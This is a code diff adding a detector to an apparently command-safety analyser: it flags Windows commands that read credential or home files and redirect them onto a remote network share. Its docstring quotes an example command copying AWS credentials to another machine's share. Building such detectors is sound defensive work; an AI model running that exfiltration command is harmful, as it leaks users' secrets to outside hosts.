@@ -99,6 +99,51 @@ def analyse(text: str, scope: Scope) -> None:
             info, echoed = _segment_once(words, stdin, scope, echoed, memo)
 
 
+_CONTENT_READERS = frozenset({"type", "more", "findstr", "find", "sort", "certutil", "cat"})
+
+
+def _redirect_exfil(words: list[Word], redirects: list[tuple[str, Word]], scope: Scope) -> None:
+    """`type %USERPROFILE%\\.aws\\credentials > \\\\host\\s\\c.txt`: what a command reads from
+    a key, credential or home file, written onto another machine's share (exfiltration)."""
+    from aintern_ls.safety.paths import is_secret
+    from aintern_ls.safety.windows import _WIN_SECRET, _personal_source
+
+    # (the reader may stand behind `cmd /c`, `start /b`, `call`: its output is theirs)
+    at = next(
+        (
+            i
+            for i, w in enumerate(words[:6])
+            if w.text.lower().removesuffix(".exe") in _CONTENT_READERS
+        ),
+        None,
+    )
+    if at is None:
+        return  # (a listing sends names, not what the files hold)
+    words = words[at:]
+    for op, target in redirects:
+        if op not in (">", ">>") or not re.match(
+            r"(?:\\\\|//)(?![.?][\\/])[^\\/]+[\\/]", target.text
+        ):
+            continue
+        for w in words[1:]:
+            t = w.text.strip('"')
+            low = t.replace("\\", "/").lower()
+            if (
+                is_secret(low)
+                or _WIN_SECRET.search(t)
+                or _personal_source(t)
+                or re.match(r"[a-z]:/users/(?!public(?:/|$))", low)
+            ):
+                scope.add(
+                    RiskLevel.CRITICAL,
+                    "exfiltration",
+                    f"writes what it reads from {t} onto another machine's share",
+                    target.start,
+                    target.end,
+                )
+                return
+
+
 def _group_loop(words: list[Word], text: str) -> tuple[list[Word] | None, int]:
     """A `for … do (` segment whose parenthesised body may go on in the next segments: its
     head (up to `do`) and where the body's closing parenthesis stands (-1: none)."""
@@ -212,6 +257,8 @@ def _segment(
     _alternate_streams(words, redirects, scope)
     words = _mapped_drives(_by_stem(_unglue(words), scope), scope)
     info = dispatch.judge(words, scope, stdin)
+    if redirects and any(t.text.startswith(("\\\\", "//")) for _, t in redirects):
+        _redirect_exfil(words, redirects, scope)
     if words[0].text.lower() in ("cd", "chdir", "pushd"):
         scope.pending_cd = ""  # (read from the words below: `cd /d X`)
     if scope.pending_cd is not None:
